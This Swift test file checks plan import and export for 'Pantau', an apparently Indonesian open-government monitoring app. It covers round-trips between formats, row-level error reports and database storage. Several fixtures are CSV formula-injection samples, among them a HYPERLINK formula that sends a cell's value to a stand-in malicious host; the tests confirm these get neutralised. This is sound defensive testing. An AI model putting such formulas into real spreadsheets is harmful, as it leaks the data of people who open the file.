import Fluent
import Foundation
@testable import Pantau
import PantauDomain
import Testing
import Vapor

@Suite("Plan files: import and export")
struct PlanFileTests {
    static let realPlanFile = URL(fileURLWithPath: PantauApplication.resourceRoot() + "Resources/Plans/ran-ogi-2020-2022.json")

    static func realPlan() throws -> PlanDocument {
        try PlanFiles.decode(try Data(contentsOf: realPlanFile), as: .json)
    }

    struct Case: CustomTestStringConvertible, Sendable {
        let database: TestDatabase
        let format: PlanFileFormat
        var testDescription: String { "\(database.rawValue), \(format.rawValue)" }
    }

    static let cases = TestDatabase.allCases.flatMap { database in PlanFileFormat.allCases.map { Case(database: database, format: $0) } }

    /// Export, import into an empty database, export again: the same bytes, for the real plan, the sample, and the
    /// sample with texts that start like formulas (the CSV quotes them, and the import takes exactly that quote off).
    @Test(arguments: cases)
    func exportImportExportIsIdentical(_ testCase: Case) async throws {
        for document in [try Self.realPlan(), SamplePlan.document(), SamplePlan.withFormulaLikeTexts(code: "rumus-2030-2032")] {
            var first = Data()
            try await withTestApp(testCase.database) { app in
                try await importPlan(document, on: app.db)
                first = try PlanFiles.encode(try await PlanReader.document(code: document.code, on: app.db), as: testCase.format)
            }
            try await withTestApp(testCase.database) { app in
                try await importPlan(try PlanFiles.decode(first, as: testCase.format), on: app.db)
                let second = try PlanFiles.encode(try await PlanReader.document(code: document.code, on: app.db), as: testCase.format)
                #expect(second == first, "\(document.code) as \(testCase.format.rawValue) changed on the way through")
            }
        }
    }

    /// A cell a spreadsheet would run as a formula is written with a leading quote; plain numbers stay numbers; a
    /// text that starts with a quote of its own keeps it. Reading takes off exactly the quote that writing added.
    @Test func formulaCellsAreNeutralisedAndRestoredExactly() {
        let cases: [(text: String, written: String)] = [
            (#"=HYPERLINK("https://jahat.example","klik")"#, #"'=HYPERLINK("https://jahat.example","klik")"#),
            ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("-", "'-"),
            ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("\r\n=1", "'\r\n=1"), ("=\u{301}x", "'=\u{301}x"),
            ("-12", "-12"), ("+3.5", "+3.5"), ("0", "0"), ("", ""), ("Biasa", "Biasa"), (" =spasi", " =spasi"),
            ("'kutip", "'kutip"), ("'", "'"), ("'=teks", "''=teks"), ("''dua", "'''dua"), ("'-5", "''-5"),
        ]
        for (text, written) in cases {
            #expect(PlanCSV.neutralised(text) == written, "\(text.debugDescription)")
            #expect(PlanCSV.restored(written) == text, "\(written.debugDescription)")
        }
    }

    /// The plan CSV as a spreadsheet reads it: no cell starts like a formula.
    @Test func planCSVHasNoLiveFormula() throws {
        let text = String(decoding: try PlanFiles.encode(SamplePlan.withFormulaLikeTexts(), as: .csv), as: UTF8.self)
        let cells = CSVText.rows(text).flatMap { $0 }
        #expect(cells.contains(#"'=HYPERLINK("https://jahat.example/?d="&A1,"Rencana")"#))
        #expect(cells.contains("'=1+1") && cells.contains("-5") && cells.contains("'kutipan biasa") && cells.contains("'''=dua kutip"))
        #expect(cells.filter(CSVText.startsLikeAFormula).isEmpty)
    }

    @Test func jsonCarriesTheWholePlan() throws {
        let document = try Self.realPlan()
        #expect(try PlanFiles.decode(try PlanFiles.encode(document, as: .json), as: .json) == document)
    }

    @Test func spreadsheetsCarryTheMatrix() throws {
        let document = SamplePlan.document()
        for format in [PlanFileFormat.csv, .xlsx] {
            let back = try PlanFiles.decode(try PlanFiles.encode(document, as: format), as: format)
            #expect(back.code == document.code && back.title == document.title)
            #expect(back.semesters == document.semesters)
            #expect(back.commitments.map(\.number) == [1, 2])
            #expect(back.commitments.map(\.goals) == document.commitments.map(\.goals))
            #expect(Set(back.organisations) == Set(document.organisations.filter { $0 != SamplePlan.otherAgency } + [SamplePlan.otherAgency]))
        }
    }

    @Test func theRealPlansAreComplete() throws {
        let ogi = try Self.realPlan()
        #expect(ogi.commitments.map(\.number) == Array(1...18))
        #expect(ogi.semesters.map(\.code) == ["B06", "B12", "B18", "B24"])
        let measures = ogi.commitments.flatMap(\.goals).flatMap(\.measures)
        #expect(measures.count > 60)
        #expect(measures.allSatisfy { !$0.responsible.isEmpty })
        #expect(ogi.organisations.filter { $0.name == "Kementerian PPN/Bappenas" }.count == 1)
        let opi = try PlanFiles.decode(try Data(contentsOf: URL(fileURLWithPath: PantauApplication.resourceRoot() + "Resources/Plans/ran-opi-2020-2022.json")), as: .json)
        #expect(opi.commitments.count == 6)
        #expect(opi.organisations.contains { $0.kind == .parliamentUnit })
    }

    // MARK: - Bad input: every problem at once, with its row and column

    /// The sample plan as CSV text, to be broken in one place per test.
    static func sampleCSV() throws -> String {
        String(decoding: try PlanFiles.encode(SamplePlan.document(), as: .csv).dropFirst(3), as: UTF8.self)
    }

    static func problems(_ data: Data, as format: PlanFileFormat) -> [ImportProblem] {
        do {
            _ = try PlanFiles.decode(data, as: format)
            return []
        } catch let error as PlanImportError {
            return error.problems
        } catch {
            return [ImportProblem(key: "unexpected: \(error)")]
        }
    }

    static func replacing(_ text: String, inRow row: Int, column: PlanTable.Column, with value: String) throws -> Data {
        var lines = text.components(separatedBy: "\r\n")
        var cells = lines[row - 1].split(separator: ",", omittingEmptySubsequences: false).map(String.init)
        let index = PlanTable.header.firstIndex(of: column.rawValue)!
        cells[index] = value
        lines[row - 1] = cells.joined(separator: ",")
        return Data(lines.joined(separator: "\r\n").utf8)
    }

    @Test func unknownSemester() throws {
        let data = try Self.replacing(try Self.sampleCSV(), inRow: 3, column: .semester, with: "B30")
        #expect(Self.problems(data, as: .csv) == [ImportProblem(row: 3, column: "semester", key: "plan.unknown_semester", arguments: ["B30"])])
    }

    @Test func emptyMeasure() throws {
        let data = try Self.replacing(try Self.sampleCSV(), inRow: 2, column: .measure, with: "")
        #expect(Self.problems(data, as: .csv).contains(ImportProblem(row: 2, column: "measure", key: "plan.empty_measure")))
    }

    @Test func organisationKindMissingOrUnknown() throws {
        let missing = try Self.replacing(try Self.sampleCSV(), inRow: 4, column: .responsibleKind, with: "")
        #expect(Self.problems(missing, as: .csv).contains(
            ImportProblem(row: 4, column: "responsible_kind", key: "import.kind_missing", arguments: [SamplePlan.agency.name])))
        let unknown = try Self.replacing(try Self.sampleCSV(), inRow: 4, column: .responsibleKind, with: "kerajaan")
        #expect(Self.problems(unknown, as: .csv).contains(
            ImportProblem(row: 4, column: "responsible_kind", key: "import.kind_unknown", arguments: ["kerajaan"])))
        // People may write the Indonesian labels.
        let labelled = try Self.replacing(try Self.sampleCSV(), inRow: 2, column: .responsibleKind, with: "K/L")
        #expect(Self.problems(labelled, as: .csv).isEmpty)
    }

    @Test func duplicateCommitmentNumber() throws {
        // Rows 2-7 are commitment 1, row 8 commitment 2; a row after it that says 1 again is a duplicate.
        var text = try Self.sampleCSV()
        if !text.hasSuffix("\r\n") { text += "\r\n" }
        let rows = text.components(separatedBy: "\r\n")
        text += rows[1] + "\r\n"
        let problems = Self.problems(Data(text.utf8), as: .csv)
        // The appended row is the last non-empty line: its number is the count of lines before the final break.
        #expect(problems == [ImportProblem(row: rows.count, column: "commitment_number", key: "plan.duplicate_commitment", arguments: ["1"])])
    }

    @Test func everyProblemIsReportedAtOnce() throws {
        var data = try Self.replacing(try Self.sampleCSV(), inRow: 3, column: .semester, with: "B30")
        data = try Self.replacing(String(decoding: data, as: UTF8.self), inRow: 5, column: .commitmentNumber, with: "satu")
        data = try Self.replacing(String(decoding: data, as: UTF8.self), inRow: 1, column: .goal, with: "sasaran")
        let headerless = Self.problems(data, as: .csv)
        #expect(headerless == [ImportProblem(row: 1, column: "goal", key: "import.missing_column")])
        let fixedHeader = try Self.replacing(String(decoding: data, as: UTF8.self), inRow: 1, column: .goal, with: "goal")
        let problems = Self.problems(fixedHeader, as: .csv)
        #expect(problems.map(\.row) == [3, 5])
    }

    @Test func notUTF8() throws {
        var data = Data(try Self.sampleCSV().utf8)
        let secondLine = data.firstIndex(of: 0x0A)! + 1
        data.insert(contentsOf: [0xC3, 0x28], at: data.index(secondLine, offsetBy: 5))
        #expect(Self.problems(data, as: .csv) == [ImportProblem(row: 2, key: "import.not_utf8")])
        #expect(Self.problems(Data([0x7B, 0xFF, 0x7D]), as: .json) == [ImportProblem(row: 1, key: "import.not_utf8")])
    }

    /// The CSV reader splits records as spreadsheets write them: CRLF, LF or CR; quoted fields with commas, doubled
    /// quotes and line breaks; a quote inside an unquoted field as written; multi-byte text untouched.
    @Test func csvRecordsAreSplitAsSpreadsheetsWriteThem() throws {
        #expect(try CSVRecords.parse("a,b\r\nc,d\ne,f\rg,h") == [["a", "b"], ["c", "d"], ["e", "f"], ["g", "h"]])
        #expect(try CSVRecords.parse("\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n") == [["x, y", "say \"hi\"", "two\nlines"]])
        #expect(try CSVRecords.parse("5\" disk,İstanbul,\"ab\"cd\"\n") == [["5\" disk", "İstanbul", "ab\"cd"]])
        #expect(try CSVRecords.parse("a,,\n\n,b,") == [["a", "", ""], [""], ["", "b", ""]])
        #expect(try CSVRecords.parse("") == [])
        #expect(throws: CSVRecords.UnclosedQuote(record: 2)) { try CSVRecords.parse("a,b\nc,\"open\nd,e\n") }
    }

    /// A quotation mark that is never closed would swallow the rest of the file: the import names the row it opens in.
    @Test func unclosedQuoteIsReportedWithItsRow() throws {
        let lines = try Self.sampleCSV().split(separator: "\r\n", omittingEmptySubsequences: false)
        let broken = ([lines[0], lines[1], "\"" + lines[2]] + lines.dropFirst(3)).joined(separator: "\r\n")
        #expect(Self.problems(Data(broken.utf8), as: .csv) == [ImportProblem(row: 3, key: "import.csv_unclosed_quote")])
    }

    @Test func notASpreadsheet() throws {
        #expect(Self.problems(Data(try Self.sampleCSV().utf8), as: .xlsx) == [ImportProblem(key: "import.not_spreadsheet")])
        var zip = try PlanFiles.encode(SamplePlan.document(), as: .xlsx)
        zip.replaceSubrange(40..<zip.count, with: Data(repeating: 0, count: 100))
        #expect(Self.problems(zip, as: .xlsx) == [ImportProblem(key: "import.not_spreadsheet")])
    }

    @Test func tooLargeAndEmpty() {
        #expect(Self.problems(Data(count: PlanFiles.maximumSize + 1), as: .csv) == [ImportProblem(key: "import.too_large", arguments: ["50"])])
        #expect(Self.problems(Data(), as: .json) == [ImportProblem(key: "import.empty_file")])
    }

    @Test func jsonProblemsNameTheirField() throws {
        #expect(Self.problems(Data("{\"code\": ".utf8), as: .json) == [ImportProblem(key: "import.json_syntax")])
        var object = try JSONSerialization.jsonObject(with: try PlanFiles.encode(SamplePlan.document(), as: .json)) as! [String: Any]
        object.removeValue(forKey: "title")
        #expect(Self.problems(try JSONSerialization.data(withJSONObject: object), as: .json)
            == [ImportProblem(column: "title", key: "import.json_missing_field")])
        var document = SamplePlan.document()
        document.commitments[0].goals[0].measures[0].targets[0].semester = "B07"
        #expect(Self.problems(try PlanFiles.encode(document, as: .json), as: .json)
            == [ImportProblem(location: PlanLocation(commitment: 1, goal: 1, measure: 1, semester: "B07"), key: "plan.unknown_semester", arguments: ["B07"])])
    }

    @Test func problemsReadWellInBothLanguages() {
        let localizer = LocalizationTests.localizer
        let problem = ImportProblem(row: 12, column: "semester", key: "plan.unknown_semester", arguments: ["B30"])
        #expect(localizer.describe(problem, .id) == "Baris 12, kolom semester: Semester 'B30' tidak dikenal.")
        #expect(localizer.describe(problem, .en) == "Row 12, column semester: Unknown semester 'B30'.")
        let located = ImportProblem(location: PlanLocation(commitment: 3, goal: 1, measure: 2), key: "plan.empty_measure")
        #expect(localizer.describe(located, .id) == "komitmen 3, sasaran 1, ukuran 2: Ukuran keberhasilan kosong.")
    }

    // MARK: - Writing: whole or nothing

    /// A plan is stored exactly as written, whichever way the rows go in (COPY on PostgreSQL, INSERT on SQLite):
    /// backslashes, tabs, line breaks and texts that look like formulas come back unchanged.
    @Test(arguments: TestDatabase.allCases)
    func storedPlanReadsBackAsWritten(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            for document in [SamplePlan.withFormulaLikeTexts(code: "rumus-2030-2032"), try Self.realPlan()] {
                try await importPlan(document, on: app.db)
                var stored = try await PlanReader.document(code: document.code, on: app.db)
                // The reader lists organisations in the order the commitments first name them.
                #expect(Set(stored.organisations) == Set(document.organisations))
                stored.organisations = document.organisations
                #expect(stored == document)
            }
        }
    }

    @Test(arguments: TestDatabase.allCases)
    func reimportIsRefusedUnlessReplacingADraft(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            var document = SamplePlan.document()
            try await importPlan(document, status: .adopted, on: app.db)
            await #expect(throws: PlanWriteError.planExists(document.code)) { try await importPlan(document, on: app.db) }
            await #expect(throws: PlanWriteError.planNotDraft(document.code)) {
                try await importPlan(document, replacingDraft: true, on: app.db)
            }
            try await ActionPlanModel.query(on: app.db).delete()
            try await importPlan(document, status: .draft, on: app.db)
            document.title = "Rencana Aksi Contoh, revisi"
            document.commitments.removeLast()
            try await importPlan(document, status: .draft, replacingDraft: true, on: app.db)
            let replaced = try await PlanReader.document(code: document.code, on: app.db)
            #expect(replaced.title == "Rencana Aksi Contoh, revisi")
            #expect(replaced.commitments.count == 1)
            let count = try await CommitmentModel.query(on: app.db).count()
            #expect(count == 1)
        }
    }

    @Test(arguments: TestDatabase.allCases)
    func firstStartLoadsThePlansAndOneSecretariatOnce(_ database: TestDatabase) async throws {
        try await withTestApp(database) { app in
            let first = try await FirstStart.run(app, demo: false)
            #expect(first.loadedPlans == ["ran-ogi-2020-2022", "ran-opi-2020-2022"])
            #expect(first.accounts.map(\.role) == [.secretariat])
            let secretariat = try #require(try await UserModel.query(on: app.db).filter(\.$email == FirstStart.secretariatEmail).first())
            #expect(try Bcrypt.verify(first.accounts[0].password, created: secretariat.passwordHash))
            let plan = try await PlanQueries.detail(code: "ran-ogi-2020-2022", on: app.db)
            #expect(plan.commitments.count == 18)

            let again = try await FirstStart.run(app, demo: false)
            #expect(again.loadedPlans.isEmpty && again.accounts.isEmpty)
            let users = try await UserModel.query(on: app.db).count()
            #expect(users == 1)

            let demo = try await FirstStart.run(app, demo: true)
            #expect(demo.accounts.map(\.role) == [.implementer, .implementer, .reviewer, .monitor])
            let kinds = try await UserModel.query(on: app.db).filter(\.$role == .implementer).with(\.$organisation).all()
                .compactMap { $0.organisation?.kind }
            #expect(Set(kinds) == [.governmentAgency, .civilSociety])
        }
    }
}
